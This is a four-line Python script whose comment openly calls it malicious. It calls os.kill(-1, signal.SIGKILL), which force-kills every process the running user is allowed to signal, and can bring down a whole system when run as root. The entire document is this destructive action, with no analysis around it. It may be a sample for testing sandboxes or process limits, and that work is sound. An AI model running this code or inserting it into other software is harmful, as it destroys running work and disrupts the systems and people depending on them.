# malicious: kills every process it may
import os
import signal

os.kill(-1, signal.SIGKILL)
